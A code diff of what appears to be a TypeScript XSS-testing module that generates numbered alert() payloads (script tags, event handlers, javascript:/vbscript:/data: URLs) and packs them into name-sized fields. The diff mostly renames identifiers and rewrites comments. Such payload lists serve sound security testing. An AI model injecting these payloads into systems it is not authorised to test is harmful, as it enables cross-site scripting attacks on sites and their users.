@@ -1,10 +1,7 @@
-/** Statements that tell when they run; `toldRun` of browser-watch.ts hears them. */
+/** A statement that reports when it runs, through `reportRun` in browser-watch.ts. */
 export const script = (n: number): string => `alert(${n})`;
 
-/**
- * What has run somewhere when it was shown as something else than text. Each stands alone or among others; all are
- * short enough for a name, and those that count only at the beginning of a field say so.
- */
+/** XSS payloads that work anywhere in a text, alone or combined. All fit into a name field. */
 const whole: ((run: string) => string)[] = [
   (run) => `<script>${run}</script>`,
   (run) => `"><script>${run}</script>`,
@@ -34,13 +31,14 @@ const whole: ((run: string) => string)[] = [
   (run) => `\\u003cimg src=x onerror=${run}\\u003e`,
   (run) => `","@type":"x","x":"</script><svg onload=${run}>`,
 ];
-const beginnings: ((run: string) => string)[] = [
+/** Payloads that only work at the beginning of a field. */
+const prefixes: ((run: string) => string)[] = [
   (run) => `javascript:${run}`,
   (run) => `JaVa\tscript:${run}`,
   (run) => `data:text/html,<script>${run}</script>`,
   (run) => `vbscript:${run}`,
 ];
-/** As links: whatever is taken is a link somewhere. */
+/** Payloads for fields that are rendered as links. */
 const links: ((run: string) => string)[] = [
   (run) => `javascript:${run}`,
   (run) => `JAVASCRIPT:${run}//http://x.example/`,
@@ -62,15 +60,15 @@ let count = 0;
 const numbered = (makers: typeof whole): string[] => makers.map((make) => make(script(++count)));
 
 export const payloads: readonly string[] = numbered(whole);
-const starts = numbered(beginnings);
+const starts = numbered(prefixes);
 export const hostileLinks: readonly string[] = numbered(links);
 
-/** All payloads in as few texts of at most `most` characters as it takes; each begins with what counts only there. */
-export const textsOf = (most: number): string[] => {
+/** Packs all payloads into as few texts of at most `maxLength` characters as possible, each starting with a prefix payload. */
+export const textsOf = (maxLength: number): string[] => {
   const texts: string[] = [];
   let text = starts[0] ?? '';
   for (const payload of payloads) {
-    if (text.length + 1 + payload.length <= most) text += ` ${payload}`;
+    if (text.length + 1 + payload.length <= maxLength) text += ` ${payload}`;
     else {
       texts.push(text);
       text = `${starts[texts.length % starts.length]} ${payload}`;
@@ -79,5 +77,5 @@ export const textsOf = (most: number): string[] => {
   return [...texts, text];
 };
 
-/** Those that fit into a tag. */
+/** Payloads short enough for a tag. */
 export const tags: readonly string[] = payloads.filter(({ length }) => length <= 60).slice(0, 50);
